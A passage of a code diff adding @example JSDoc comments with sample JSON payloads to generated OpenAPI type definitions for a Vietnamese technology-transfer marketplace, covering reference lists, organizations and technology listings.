@@ -5068,6 +5068,11 @@ export interface operations {
                     [name: string]: unknown;
                 };
                 content: {
+                    /**
+                     * @example {
+                     *       "status": "ok"
+                     *     }
+                     */
                     "application/json": components["schemas"]["Health"];
                 };
             };
@@ -5136,6 +5141,12 @@ export interface operations {
                     [name: string]: unknown;
                 };
                 content: {
+                    /**
+                     * @example {
+                     *       "status": "ready",
+                     *       "database": "postgres"
+                     *     }
+                     */
                     "application/json": components["schemas"]["Ready"];
                 };
             };
@@ -5208,6 +5219,22 @@ export interface operations {
                     [name: string]: unknown;
                 };
                 content: {
+                    /**
+                     * @example {
+                     *       "items": [
+                     *         {
+                     *           "code": "transfer_centre",
+                     *           "labelVi": "Trung tâm ứng dụng và chuyển giao công nghệ",
+                     *           "labelEn": "Technology application and transfer centre"
+                     *         },
+                     *         {
+                     *           "code": "research_institute",
+                     *           "labelVi": "Viện nghiên cứu",
+                     *           "labelEn": "Research institute"
+                     *         }
+                     *       ]
+                     *     }
+                     */
                     "application/json": components["schemas"]["ListOrganizationKindsResponse"];
                 };
             };
@@ -5302,6 +5329,24 @@ export interface operations {
                     [name: string]: unknown;
                 };
                 content: {
+                    /**
+                     * @example {
+                     *       "items": [
+                     *         {
+                     *           "code": "technology",
+                     *           "labelVi": "Công nghệ",
+                     *           "labelEn": "Technology",
+                     *           "description": "Processes, solutions, parameters, drawings, formulas, software, data (Art. 4.1.b)"
+                     *         },
+                     *         {
+                     *           "code": "product",
+                     *           "labelVi": "Sản phẩm",
+                     *           "labelEn": "Product",
+                     *           "description": "A product made with a technology, offered with it"
+                     *         }
+                     *       ]
+                     *     }
+                     */
                     "application/json": components["schemas"]["ListListingKindsResponse"];
                 };
             };
@@ -5396,6 +5441,22 @@ export interface operations {
                     [name: string]: unknown;
                 };
                 content: {
+                    /**
+                     * @example {
+                     *       "items": [
+                     *         {
+                     *           "code": "standalone",
+                     *           "labelVi": "Hợp đồng chuyển giao công nghệ độc lập",
+                     *           "labelEn": "Standalone technology transfer contract"
+                     *         },
+                     *         {
+                     *           "code": "investment_project",
+                     *           "labelVi": "Phần chuyển giao công nghệ trong dự án đầu tư",
+                     *           "labelEn": "Part of an investment project"
+                     *         }
+                     *       ]
+                     *     }
+                     */
                     "application/json": components["schemas"]["ListTransferFormsResponse"];
                 };
             };
@@ -5490,6 +5551,22 @@ export interface operations {
                     [name: string]: unknown;
                 };
                 content: {
+                    /**
+                     * @example {
+                     *       "items": [
+                     *         {
+                     *           "code": "technical_documents",
+                     *           "labelVi": "Chuyển giao tài liệu kỹ thuật",
+                     *           "labelEn": "Technical documents"
+                     *         },
+                     *         {
+                     *           "code": "training",
+                     *           "labelVi": "Đào tạo",
+                     *           "labelEn": "Training"
+                     *         }
+                     *       ]
+                     *     }
+                     */
                     "application/json": components["schemas"]["ListTransferMethodsResponse"];
                 };
             };
@@ -5584,6 +5661,22 @@ export interface operations {
                     [name: string]: unknown;
                 };
                 content: {
+                    /**
+                     * @example {
+                     *       "items": [
+                     *         {
+                     *           "code": "patent_granted",
+                     *           "labelVi": "Đã được cấp bằng độc quyền sáng chế",
+                     *           "labelEn": "Patent granted"
+                     *         },
+                     *         {
+                     *           "code": "patent_pending",
+                     *           "labelVi": "Đang nộp đơn đăng ký sáng chế",
+                     *           "labelEn": "Patent pending"
+                     *         }
+                     *       ]
+                     *     }
+                     */
                     "application/json": components["schemas"]["ListIprStatusesResponse"];
                 };
             };
@@ -5678,6 +5771,22 @@ export interface operations {
                     [name: string]: unknown;
                 };
                 content: {
+                    /**
+                     * @example {
+                     *       "items": [
+                     *         {
+                     *           "code": "amount",
+                     *           "labelVi": "Giá cụ thể (VNĐ)",
+                     *           "labelEn": "Fixed amount (VND)"
+                     *         },
+                     *         {
+                     *           "code": "negotiable",
+                     *           "labelVi": "Thỏa thuận",
+                     *           "labelEn": "Negotiable"
+                     *         }
+                     *       ]
+                     *     }
+                     */
                     "application/json": components["schemas"]["ListPriceTypesResponse"];
                 };
             };
@@ -5772,6 +5881,22 @@ export interface operations {
                     [name: string]: unknown;
                 };
                 content: {
+                    /**
+                     * @example {
+                     *       "items": [
+                     *         {
+                     *           "code": "1",
+                     *           "labelVi": "Nguyên lý cơ bản được quan sát",
+                     *           "labelEn": "Basic principles observed"
+                     *         },
+                     *         {
+                     *           "code": "2",
+                     *           "labelVi": "Khái niệm công nghệ được hình thành",
+                     *           "labelEn": "Technology concept formulated"
+                     *         }
+                     *       ]
+                     *     }
+                     */
                     "application/json": components["schemas"]["ListTrlLevelsResponse"];
                 };
             };
@@ -5866,6 +5991,22 @@ export interface operations {
                     [name: string]: unknown;
                 };
                 content: {
+                    /**
+                     * @example {
+                     *       "items": [
+                     *         {
+                     *           "code": "1",
+                     *           "labelVi": "Khoa học tự nhiên",
+                     *           "labelEn": "Natural sciences"
+                     *         },
+                     *         {
+                     *           "code": "2",
+                     *           "labelVi": "Khoa học kỹ thuật và công nghệ",
+                     *           "labelEn": "Engineering and technology"
+                     *         }
+                     *       ]
+                     *     }
+                     */
                     "application/json": components["schemas"]["ListScienceFieldsResponse"];
                 };
             };
@@ -5960,6 +6101,22 @@ export interface operations {
                     [name: string]: unknown;
                 };
                 content: {
+                    /**
+                     * @example {
+                     *       "items": [
+                     *         {
+                     *           "code": "A",
+                     *           "labelVi": "Nông nghiệp, lâm nghiệp và thủy sản",
+                     *           "labelEn": "Agriculture, forestry and fishing"
+                     *         },
+                     *         {
+                     *           "code": "B",
+                     *           "labelVi": "Khai khoáng",
+                     *           "labelEn": "Mining and quarrying"
+                     *         }
+                     *       ]
+                     *     }
+                     */
                     "application/json": components["schemas"]["ListSectorsResponse"];
                 };
             };
@@ -6054,6 +6211,22 @@ export interface operations {
                     [name: string]: unknown;
                 };
                 content: {
+                    /**
+                     * @example {
+                     *       "items": [
+                     *         {
+                     *           "code": "fulfilled",
+                     *           "labelVi": "Đã tìm được công nghệ",
+                     *           "labelEn": "Fulfilled"
+                     *         },
+                     *         {
+                     *           "code": "no_longer_needed",
+                     *           "labelVi": "Không còn nhu cầu",
+                     *           "labelEn": "No longer needed"
+                     *         }
+                     *       ]
+                     *     }
+                     */
                     "application/json": components["schemas"]["ListDemandCloseReasonsResponse"];
                 };
             };
@@ -6148,6 +6321,42 @@ export interface operations {
                     [name: string]: unknown;
                 };
                 content: {
+                    /**
+                     * @example {
+                     *       "items": [
+                     *         {
+                     *           "code": "01",
+                     *           "name": "Hà Nội",
+                     *           "nameEn": "Hanoi",
+                     *           "fullName": "Thành phố Hà Nội",
+                     *           "fullNameEn": "Hanoi City",
+                     *           "kind": "city",
+                     *           "northern": true,
+                     *           "regionIds": [
+                     *             3
+                     *           ],
+                     *           "legacyCodes": [
+                     *             "01"
+                     *           ]
+                     *         },
+                     *         {
+                     *           "code": "04",
+                     *           "name": "Cao Bằng",
+                     *           "nameEn": "Cao Bang",
+                     *           "fullName": "Tỉnh Cao Bằng",
+                     *           "fullNameEn": "Cao Bang Province",
+                     *           "kind": "province",
+                     *           "northern": true,
+                     *           "regionIds": [
+                     *             1
+                     *           ],
+                     *           "legacyCodes": [
+                     *             "04"
+                     *           ]
+                     *         }
+                     *       ]
+                     *     }
+                     */
                     "application/json": components["schemas"]["ListProvincesResponse"];
                 };
             };
@@ -6242,6 +6451,26 @@ export interface operations {
                     [name: string]: unknown;
                 };
                 content: {
+                    /**
+                     * @example {
+                     *       "items": [
+                     *         {
+                     *           "code": "01",
+                     *           "fullName": "Thành phố Hà Nội",
+                     *           "regionId": 3,
+                     *           "currentCode": "01",
+                     *           "currentName": "Hà Nội"
+                     *         },
+                     *         {
+                     *           "code": "02",
+                     *           "fullName": "Tỉnh Hà Giang",
+                     *           "regionId": 1,
+                     *           "currentCode": "08",
+                     *           "currentName": "Tuyên Quang"
+                     *         }
+                     *       ]
+                     *     }
+                     */
                     "application/json": components["schemas"]["ListLegacyProvincesResponse"];
                 };
             };
@@ -6336,6 +6565,22 @@ export interface operations {
                     [name: string]: unknown;
                 };
                 content: {
+                    /**
+                     * @example {
+                     *       "items": [
+                     *         {
+                     *           "id": 1,
+                     *           "labelVi": "Đông Bắc Bộ",
+                     *           "labelEn": "North East"
+                     *         },
+                     *         {
+                     *           "id": 2,
+                     *           "labelVi": "Tây Bắc Bộ",
+                     *           "labelEn": "North West"
+                     *         }
+                     *       ]
+                     *     }
+                     */
                     "application/json": components["schemas"]["ListRegionsResponse"];
                 };
             };
@@ -6445,6 +6690,71 @@ export interface operations {
                     [name: string]: unknown;
                 };
                 content: {
+                    /**
+                     * @example {
+                     *       "items": [
+                     *         {
+                     *           "id": "49b07406-3ecf-5d30-a0c5-232779e3bc96",
+                     *           "kind": "authority",
+                     *           "name": "Sở Khoa học và Công nghệ tỉnh Bắc Giang",
+                     *           "nameEn": "Bac Giang Department of Science and Technology",
+                     *           "shortName": "Sở KH&CN Bắc Giang",
+                     *           "parentId": null,
+                     *           "provinceCode": "24",
+                     *           "currentProvinceCode": "24",
+                     *           "address": null,
+                     *           "website": null,
+                     *           "email": null,
+                     *           "phone": null,
+                     *           "taxCode": null,
+                     *           "description": "Cơ quan chuyên môn thuộc UBND tỉnh Bắc Giang, quản lý nhà nước về khoa học, công nghệ và đổi mới sáng tạo.",
+                     *           "contacts": [],
+                     *           "sectors": [],
+                     *           "delegationScope": null,
+                     *           "createdAt": "2025-01-26T03:00:00.000Z",
+                     *           "updatedAt": "2025-01-26T03:00:00.000Z",
+                     *           "mergedIntoId": null,
+                     *           "mergedAt": null,
+                     *           "provenance": {
+                     *             "source": "tech-exchange",
+                     *             "externalId": null,
+                     *             "globalId": "tech-exchange:organization:49b07406-3ecf-5d30-a0c5-232779e3bc96"
+                     *           },
+                     *           "version": 1
+                     *         },
+                     *         {
+                     *           "id": "394ea43e-ecb2-50a1-b0ef-a8eddd743db2",
+                     *           "kind": "authority",
+                     *           "name": "Sở Khoa học và Công nghệ tỉnh Hà Nam",
+                     *           "nameEn": "Ha Nam Department of Science and Technology",
+                     *           "shortName": "Sở KH&CN Hà Nam",
+                     *           "parentId": null,
+                     *           "provinceCode": "35",
+                     *           "currentProvinceCode": "37",
+                     *           "address": null,
+                     *           "website": null,
+                     *           "email": null,
+                     *           "phone": null,
+                     *           "taxCode": null,
+                     *           "description": "Cơ quan chuyên môn thuộc UBND tỉnh Hà Nam, quản lý nhà nước về khoa học, công nghệ và đổi mới sáng tạo.",
+                     *           "contacts": [],
+                     *           "sectors": [],
+                     *           "delegationScope": null,
+                     *           "createdAt": "2025-01-26T03:00:00.000Z",
+                     *           "updatedAt": "2025-01-26T03:00:00.000Z",
+                     *           "mergedIntoId": null,
+                     *           "mergedAt": null,
+                     *           "provenance": {
+                     *             "source": "tech-exchange",
+                     *             "externalId": null,
+                     *             "globalId": "tech-exchange:organization:394ea43e-ecb2-50a1-b0ef-a8eddd743db2"
+                     *           },
+                     *           "version": 1
+                     *         }
+                     *       ],
+                     *       "nextCursor": null
+                     *     }
+                     */
                     "application/json": components["schemas"]["OrganizationPage"];
                 };
             };
@@ -6528,6 +6838,13 @@ export interface operations {
         };
         requestBody: {
             content: {
+                /**
+                 * @example {
+                 *       "kind": "enterprise",
+                 *       "name": "Công ty TNHH Cơ khí Ý Yên",
+                 *       "taxCode": "0601234567"
+                 *     }
+                 */
                 "application/json": components["schemas"]["CreateOrganizationRequest"];
             };
         };
@@ -6545,6 +6862,37 @@ export interface operations {
                     [name: string]: unknown;
                 };
                 content: {
+                    /**
+                     * @example {
+                     *       "id": "a98965e8-94b0-4a92-a124-e12fe75f6df5",
+                     *       "kind": "enterprise",
+                     *       "name": "Công ty TNHH Cơ khí Ý Yên",
+                     *       "nameEn": null,
+                     *       "shortName": null,
+                     *       "parentId": null,
+                     *       "provinceCode": null,
+                     *       "currentProvinceCode": null,
+                     *       "address": null,
+                     *       "website": null,
+                     *       "email": null,
+                     *       "phone": null,
+                     *       "taxCode": "0601234567",
+                     *       "description": null,
+                     *       "contacts": [],
+                     *       "sectors": [],
+                     *       "delegationScope": null,
+                     *       "createdAt": "2026-12-05T23:58:08.395Z",
+                     *       "updatedAt": "2026-12-05T23:58:08.395Z",
+                     *       "mergedIntoId": null,
+                     *       "mergedAt": null,
+                     *       "provenance": {
+                     *         "source": "tech-exchange",
+                     *         "externalId": null,
+                     *         "globalId": "tech-exchange:organization:a98965e8-94b0-4a92-a124-e12fe75f6df5"
+                     *       },
+                     *       "version": 1
+                     *     }
+                     */
                     "application/json": components["schemas"]["Organization"];
                 };
             };
@@ -6697,6 +7045,43 @@ export interface operations {
                     [name: string]: unknown;
                 };
                 content: {
+                    /**
+                     * @example {
+                     *       "id": "23d8b145-f896-5d6e-818d-e0a5877ccb4c",
+                     *       "kind": "transfer_centre",
+                     *       "name": "Trung tâm Ứng dụng tiến bộ khoa học và công nghệ Nam Định",
+                     *       "nameEn": "Nam Dinh Centre for Technology Application and Transfer",
+                     *       "shortName": "TT ƯDTBKH&CN Nam Định",
+                     *       "parentId": "f9f07f40-5dd0-5b08-9db5-0b2cf51e0eb1",
+                     *       "provinceCode": "36",
+                     *       "currentProvinceCode": "37",
+                     *       "address": "325 Trần Hưng Đạo, TP. Nam Định",
+                     *       "website": null,
+                     *       "email": "ungdung.namdinh@sokhcn.example.vn",
+                     *       "phone": "0228 3849 123",
+                     *       "taxCode": null,
+                     *       "description": "Đơn vị sự nghiệp trực thuộc Sở KH&CN Nam Định: thử nghiệm, ứng dụng và chuyển giao tiến bộ kỹ thuật cho nông dân, hợp tác xã và doanh nghiệp trên địa bàn; sản xuất giống, chế phẩm sinh học và dịch vụ phân tích.",
+                     *       "contacts": [
+                     *         {
+                     *           "name": "Nguyễn Văn An",
+                     *           "position": "Giám đốc",
+                     *           "phone": "0228 3849 123"
+                     *         }
+                     *       ],
+                     *       "sectors": [],
+                     *       "delegationScope": null,
+                     *       "createdAt": "2025-01-26T03:00:00.000Z",
+                     *       "updatedAt": "2025-01-26T03:00:00.000Z",
+                     *       "mergedIntoId": null,
+                     *       "mergedAt": null,
+                     *       "provenance": {
+                     *         "source": "tech-exchange",
+                     *         "externalId": null,
+                     *         "globalId": "tech-exchange:organization:23d8b145-f896-5d6e-818d-e0a5877ccb4c"
+                     *       },
+                     *       "version": 1
+                     *     }
+                     */
                     "application/json": components["schemas"]["Organization"];
                 };
             };
@@ -6797,6 +7182,11 @@ export interface operations {
         /** @description Fields to change; null clears an optional field. The kind cannot change. */
         requestBody: {
             content: {
+                /**
+                 * @example {
+                 *       "nameEn": "Strong"
+                 *     }
+                 */
                 "application/json": components["schemas"]["UpdateOrganizationRequest"];
             };
         };
@@ -6812,6 +7202,37 @@ export interface operations {
                     [name: string]: unknown;
                 };
                 content: {
+                    /**
+                     * @example {
+                     *       "id": "abeefddc-aead-458e-88d1-4c2c4888ae95",
+                     *       "kind": "enterprise",
+                     *       "name": "Công ty TNHH Điện tử Hà Nam",
+                     *       "nameEn": "Strong",
+                     *       "shortName": null,
+                     *       "parentId": null,
+                     *       "provinceCode": null,
+                     *       "currentProvinceCode": null,
+                     *       "address": null,
+                     *       "website": null,
+                     *       "email": null,
+                     *       "phone": null,
+                     *       "taxCode": null,
+                     *       "description": null,
+                     *       "contacts": [],
+                     *       "sectors": [],
+                     *       "delegationScope": null,
+                     *       "createdAt": "2026-12-05T23:57:43.658Z",
+                     *       "updatedAt": "2026-03-02T03:00:00.000Z",
+                     *       "mergedIntoId": null,
+                     *       "mergedAt": null,
+                     *       "provenance": {
+                     *         "source": "tech-exchange",
+                     *         "externalId": null,
+                     *         "globalId": "tech-exchange:organization:abeefddc-aead-458e-88d1-4c2c4888ae95"
+                     *       },
+                     *       "version": 2
+                     *     }
+                     */
                     "application/json": components["schemas"]["Organization"];
                 };
             };
@@ -6979,6 +7400,11 @@ export interface operations {
         };
         requestBody: {
             content: {
+                /**
+                 * @example {
+                 *       "intoOrganizationId": "78fbf9f5-cf4b-4004-a57b-128f1b9c1150"
+                 *     }
+                 */
                 "application/json": components["schemas"]["MergeOrganizationRequest"];
             };
         };
@@ -6995,6 +7421,37 @@ export interface operations {
                     [name: string]: unknown;
                 };
                 content: {
+                    /**
+                     * @example {
+                     *       "id": "e35ab0b2-af17-4c12-9141-a9f5dd278830",
+                     *       "kind": "enterprise",
+                     *       "name": "HTX Nông nghiệp Giao Hà",
+                     *       "nameEn": null,
+                     *       "shortName": null,
+                     *       "parentId": null,
+                     *       "provinceCode": null,
+                     *       "currentProvinceCode": null,
+                     *       "address": null,
+                     *       "website": null,
+                     *       "email": null,
+                     *       "phone": null,
+                     *       "taxCode": null,
+                     *       "description": null,
+                     *       "contacts": [],
+                     *       "sectors": [],
+                     *       "delegationScope": null,
+                     *       "createdAt": "2026-12-05T23:59:20.628Z",
+                     *       "updatedAt": "2026-03-02T03:00:00.000Z",
+                     *       "mergedIntoId": "78fbf9f5-cf4b-4004-a57b-128f1b9c1150",
+                     *       "mergedAt": "2026-03-02T03:00:00.000Z",
+                     *       "provenance": {
+                     *         "source": "tech-exchange",
+                     *         "externalId": null,
+                     *         "globalId": "tech-exchange:organization:e35ab0b2-af17-4c12-9141-a9f5dd278830"
+                     *       },
+                     *       "version": 2
+                     *     }
+                     */
                     "application/json": components["schemas"]["Organization"];
                 };
             };
@@ -7203,6 +7660,139 @@ export interface operations {
                     [name: string]: unknown;
                 };
                 content: {
+                    /**
+                     * @example {
+                     *       "items": [
+                     *         {
+                     *           "id": "ed625578-bc81-5852-8fb3-ff488fd599ad",
+                     *           "status": "published",
+                     *           "kind": "technology",
+                     *           "titleVi": "Quy trình sản xuất lúa gạo hữu cơ",
+                     *           "titleEn": "Organic rice production process",
+                     *           "trl": 8,
+                     *           "priceType": "amount",
+                     *           "priceVnd": 150000000,
+                     *           "sectors": [
+                     *             "A"
+                     *           ],
+                     *           "fields": [
+                     *             "4"
+                     *           ],
+                     *           "provinceCodes": [
+                     *             "36"
+                     *           ],
+                     *           "currentProvinceCodes": [
+                     *             "37"
+                     *           ],
+                     *           "owner": {
+                     *             "id": "23d8b145-f896-5d6e-818d-e0a5877ccb4c",
+                     *             "name": "Trung tâm Ứng dụng tiến bộ khoa học và công nghệ Nam Định",
+                     *             "kind": "transfer_centre"
+                     *           },
+                     *           "publishedAt": "2026-01-16T03:00:00.000Z",
+                     *           "validUntil": "2027-08-24",
+                     *           "provenance": {
+                     *             "source": "tech-exchange",
+                     *             "externalId": null,
+                     *             "globalId": "tech-exchange:listing:ed625578-bc81-5852-8fb3-ff488fd599ad"
+                     *           },
+                     *           "redacted": [],
+                     *           "score": 0.9546
+                     *         },
+                     *         {
+                     *           "id": "a601aaa2-f5df-5e58-a347-44bb94d9e6c9",
+                     *           "status": "published",
+                     *           "kind": "technology",
+                     *           "titleVi": "Ủ compost rác thải hữu cơ quy mô xã bằng chế phẩm vi sinh",
+                     *           "titleEn": null,
+                     *           "trl": 8,
+                     *           "priceType": "amount",
+                     *           "priceVnd": 65000000,
+                     *           "sectors": [
+                     *             "E"
+                     *           ],
+                     *           "fields": [
+                     *             "2",
+                     *             "4"
+                     *           ],
+                     *           "provinceCodes": [
+                     *             "37",
+                     *             "36"
+                     *           ],
+                     *           "currentProvinceCodes": [
+                     *             "37"
+                     *           ],
+                     *           "owner": {
+                     *             "id": "ab0d50b9-79dc-50e9-a810-61051ea06908",
+                     *             "name": "Trung tâm Ứng dụng khoa học và công nghệ Ninh Bình",
+                     *             "kind": "transfer_centre"
+                     *           },
+                     *           "publishedAt": "2025-12-07T03:00:00.000Z",
+                     *           "validUntil": "2027-04-26",
+                     *           "provenance": {
+                     *             "source": "tech-exchange",
+                     *             "externalId": null,
+                     *             "globalId": "tech-exchange:listing:a601aaa2-f5df-5e58-a347-44bb94d9e6c9"
+                     *           },
+                     *           "redacted": [],
+                     *           "score": 0.3994
+                     *         }
+                     *       ],
+                     *       "nextCursor": null,
+                     *       "facets": {
+                     *         "kind": [
+                     *           {
+                     *             "code": "technology",
+                     *             "count": 4
+                     *           },
+                     *           {
+                     *             "code": "equipment",
+                     *             "count": 1
+                     *           }
+                     *         ],
+                     *         "province": [
+                     *           {
+                     *             "code": "37",
+                     *             "count": 6
+                     *           },
+                     *           {
+                     *             "code": "01",
+                     *             "count": 2
+                     *           }
+                     *         ],
+                     *         "trl": [
+                     *           {
+                     *             "code": "7",
+                     *             "count": 1
+                     *           },
+                     *           {
+                     *             "code": "8",
+                     *             "count": 3
+                     *           }
+                     *         ],
+                     *         "exhaustive": true
+                     *       },
+                     *       "interpretation": {
+                     *         "corrections": [],
+                     *         "thesaurus": [
+                     *           {
+                     *             "entryId": "883d17ea-3adb-4d35-a5e1-60e540910a98",
+                     *             "matched": "lua gao",
+                     *             "added": [
+                     *               {
+                     *                 "phrase": "rice",
+                     *                 "weight": 1
+                     *               },
+                     *               {
+                     *                 "phrase": "paddy rice",
+                     *                 "weight": 1
+                     *               }
+                     *             ]
+                     *           }
+                     *         ]
+                     *       }
+                     *     }
+                     */
                     "application/json": components["schemas"]["ListingPage"];
                 };
             };
@@ -7299,6 +7889,51 @@ export interface operations {
         };
         requestBody: {
             content: {
+                /**
+                 * @example {
+                 *       "kind": "technology",
+                 *       "titleVi": "Quy trình sản xuất lúa gạo hữu cơ",
+                 *       "titleEn": "Organic rice production process",
+                 *       "descriptionVi": "Quy trình canh tác lúa hữu cơ đạt chuẩn, giảm phân bón hóa học, phù hợp vùng đồng bằng sông Hồng.",
+                 *       "trl": 7,
+                 *       "iprStatus": "patent_granted",
+                 *       "iprNumbers": [
+                 *         "1-0023456"
+                 *       ],
+                 *       "transferForms": [
+                 *         "standalone",
+                 *         "ip_transfer"
+                 *       ],
+                 *       "transferMethods": [
+                 *         "technical_documents",
+                 *         "training"
+                 *       ],
+                 *       "priceType": "amount",
+                 *       "priceVnd": 250000000,
+                 *       "sectors": [
+                 *         "A"
+                 *       ],
+                 *       "fields": [
+                 *         "4"
+                 *       ],
+                 *       "keywords": [
+                 *         "lúa hữu cơ",
+                 *         "nông nghiệp sạch"
+                 *       ],
+                 *       "provinceCodes": [
+                 *         "36"
+                 *       ],
+                 *       "media": [
+                 *         {
+                 *           "url": "https://example.vn/lua.jpg",
+                 *           "kind": "image",
+                 *           "title": "Cánh đồng lúa"
+                 *         }
+                 *       ],
+                 *       "validUntil": "2026-12-31",
+                 *       "anonymous": true
+                 *     }
+                 */
                 "application/json": components["schemas"]["CreateListingRequest"];
             };
         };
@@ -7316,6 +7951,82 @@ export interface operations {
                     [name: string]: unknown;
                 };
                 content: {
+                    /**
+                     * @example {
+                     *       "id": "84924268-e9a0-4f76-8e65-d5dcf4b13334",
+                     *       "status": "draft",
+                     *       "owner": {
+                     *         "id": "abeefddc-aead-458e-88d1-4c2c4888ae95",
+                     *         "name": "Công ty TNHH Điện tử Hà Nam",
+                     *         "kind": "enterprise"
+                     *       },
+                     *       "kind": "technology",
+                     *       "titleVi": "Quy trình sản xuất lúa gạo hữu cơ",
+                     *       "titleEn": "Organic rice production process",
+                     *       "descriptionVi": "Quy trình canh tác lúa hữu cơ đạt chuẩn, giảm phân bón hóa học, phù hợp vùng đồng bằng sông Hồng.",
+                     *       "descriptionEn": null,
+                     *       "trl": 7,
+                     *       "iprStatus": "patent_granted",
+                     *       "iprNumbers": [
+                     *         "1-0023456"
+                     *       ],
+                     *       "transferForms": [
+                     *         "standalone",
+                     *         "ip_transfer"
+                     *       ],
+                     *       "transferMethods": [
+                     *         "technical_documents",
+                     *         "training"
+                     *       ],
+                     *       "priceType": "amount",
+                     *       "priceVnd": 250000000,
+                     *       "sectors": [
+                     *         "A"
+                     *       ],
+                     *       "fields": [
+                     *         "4"
+                     *       ],
+                     *       "keywords": [
+                     *         "lúa hữu cơ",
+                     *         "nông nghiệp sạch"
+                     *       ],
+                     *       "provinceCodes": [
+                     *         "36"
+                     *       ],
+                     *       "currentProvinceCodes": [
+                     *         "37"
+                     *       ],
+                     *       "media": [
+                     *         {
+                     *           "url": "https://example.vn/lua.jpg",
+                     *           "kind": "image",
+                     *           "title": "Cánh đồng lúa"
+                     *         }
+                     *       ],
+                     *       "validUntil": "2026-12-31",
+                     *       "publishedAt": null,
+                     *       "withdrawnAt": null,
+                     *       "withdrawReason": null,
+                     *       "moderationReason": null,
+                     *       "moderatedAt": null,
+                     *       "contacts": [],
+                     *       "disclosure": {
+                     *         "contacts": false,
+                     *         "iprNumbers": false
+                     *       },
+                     *       "anonymous": true,
+                     *       "provenance": {
+                     *         "source": "tech-exchange",
+                     *         "externalId": null,
+                     *         "globalId": "tech-exchange:listing:84924268-e9a0-4f76-8e65-d5dcf4b13334"
+                     *       },
+                     *       "redacted": [],
+                     *       "createdAt": "2026-03-02T03:00:00.000Z",
+                     *       "updatedAt": "2026-03-02T03:00:00.000Z",
+                     *       "version": 1,
+                     *       "possibleDuplicates": []
+                     *     }
+                     */
                     "application/json": components["schemas"]["ListingWithDuplicates"];
                 };
             };
@@ -7468,6 +8179,86 @@ export interface operations {
                     [name: string]: unknown;
                 };
                 content: {
+                    /**
+                     * @example {
+                     *       "id": "ed625578-bc81-5852-8fb3-ff488fd599ad",
+                     *       "status": "published",
+                     *       "owner": {
+                     *         "id": "23d8b145-f896-5d6e-818d-e0a5877ccb4c",
+                     *         "name": "Trung tâm Ứng dụng tiến bộ khoa học và công nghệ Nam Định",
+                     *         "kind": "transfer_centre"
+                     *       },
+                     *       "kind": "technology",
+                     *       "titleVi": "Quy trình sản xuất lúa gạo hữu cơ",
+                     *       "titleEn": "Organic rice production process",
+                     *       "descriptionVi": "Quy trình canh tác lúa hữu cơ từ làm đất, giống, phân bón hữu cơ ủ tại chỗ đến quản lý dịch hại bằng biện pháp sinh học. Đã áp dụng trên 120 ha tại Hải Hậu, Giao Thủy, năng suất đạt 5,2-5,8 tấn/ha và được chứng nhận theo TCVN 11041-2:2017. Chuyển giao kèm hồ sơ truy xuất nguồn gốc và hướng dẫn chuẩn bị đánh giá chứng nhận.",
+                     *       "descriptionEn": "An organic rice cultivation process from land preparation and seed to on-farm compost and biological pest control, applied on 120 ha in Hai Hau and Giao Thuy and certified to TCVN 11041-2:2017.",
+                     *       "trl": 8,
+                     *       "iprStatus": "know_how",
+                     *       "iprNumbers": null,
+                     *       "transferForms": [
+                     *         "standalone"
+                     *       ],
+                     *       "transferMethods": [
+                     *         "technical_documents",
+                     *         "training"
+                     *       ],
+                     *       "priceType": "amount",
+                     *       "priceVnd": 150000000,
+                     *       "sectors": [
+                     *         "A"
+                     *       ],
+                     *       "fields": [
+                     *         "4"
+                     *       ],
+                     *       "keywords": [
+                     *         "lúa hữu cơ",
+                     *         "gạo hữu cơ"
+                     *       ],
+                     *       "provinceCodes": [
+                     *         "36"
+                     *       ],
+                     *       "currentProvinceCodes": [
+                     *         "37"
+                     *       ],
+                     *       "media": [
+                     *         {
+                     *           "url": "https://media.sangiaodich.example.vn/images/lua-huu-co/canh-dong.jpg",
+                     *           "kind": "image",
+                     *           "title": "Cánh đồng lúa hữu cơ Hải Hậu"
+                     *         },
+                     *         {
+                     *           "url": "https://media.sangiaodich.example.vn/docs/lua-huu-co/quy-trinh.pdf",
+                     *           "kind": "document",
+                     *           "title": "Tóm tắt quy trình"
+                     *         }
+                     *       ],
+                     *       "validUntil": "2027-08-24",
+                     *       "publishedAt": "2026-01-16T03:00:00.000Z",
+                     *       "withdrawnAt": null,
+                     *       "withdrawReason": null,
+                     *       "moderationReason": null,
+                     *       "moderatedAt": null,
+                     *       "contacts": null,
+                     *       "disclosure": {
+                     *         "contacts": false,
+                     *         "iprNumbers": false
+                     *       },
+                     *       "anonymous": false,
+                     *       "provenance": {
+                     *         "source": "tech-exchange",
+                     *         "externalId": null,
+                     *         "globalId": "tech-exchange:listing:ed625578-bc81-5852-8fb3-ff488fd599ad"
+                     *       },
+                     *       "redacted": [
+                     *         "contacts",
+                     *         "iprNumbers"
+                     *       ],
+                     *       "createdAt": "2026-01-13T03:00:00.000Z",
+                     *       "updatedAt": "2026-01-16T03:00:00.000Z",
+                     *       "version": 1
+                     *     }
+                     */
                     "application/json": components["schemas"]["Listing"];
                 };
             };
@@ -7568,6 +8359,13 @@ export interface operations {
         /** @description Fields to change; null clears an optional field, [] empties a list. The rules on price and IPR numbers apply to the listing as it will be. */
         requestBody: {
             content: {
+                /**
+                 * @example {
+                 *       "titleEn": "Organic rice, certified",
+                 *       "priceVnd": 300000000,
+                 *       "trl": 7
+                 *     }
+                 */
                 "application/json": components["schemas"]["UpdateListingRequest"];
             };
         };
@@ -7583,6 +8381,81 @@ export interface operations {
                     [name: string]: unknown;
                 };
                 content: {
+                    /**
+                     * @example {
+                     *       "id": "1c63674e-00c4-4215-a0b7-e2c4b5cf7884",
+                     *       "status": "draft",
+                     *       "owner": {
+                     *         "id": "f003fa69-9759-4388-8d33-9595cc82755a",
+                     *         "name": "Công ty TNHH Cơ khí Nông nghiệp Thái Bình",
+                     *         "kind": "enterprise"
+                     *       },
+                     *       "kind": "technology",
+                     *       "titleVi": "Quy trình sản xuất lúa gạo hữu cơ",
+                     *       "titleEn": "Organic rice, certified",
+                     *       "descriptionVi": "Quy trình canh tác lúa hữu cơ đạt chuẩn, giảm phân bón hóa học, phù hợp vùng đồng bằng sông Hồng.",
+                     *       "descriptionEn": null,
+                     *       "trl": 7,
+                     *       "iprStatus": "patent_granted",
+                     *       "iprNumbers": [
+                     *         "1-0023456"
+                     *       ],
+                     *       "transferForms": [
+                     *         "standalone",
+                     *         "ip_transfer"
+                     *       ],
+                     *       "transferMethods": [
+                     *         "technical_documents",
+                     *         "training"
+                     *       ],
+                     *       "priceType": "amount",
+                     *       "priceVnd": 300000000,
+                     *       "sectors": [
+                     *         "A"
+                     *       ],
+                     *       "fields": [
+                     *         "4"
+                     *       ],
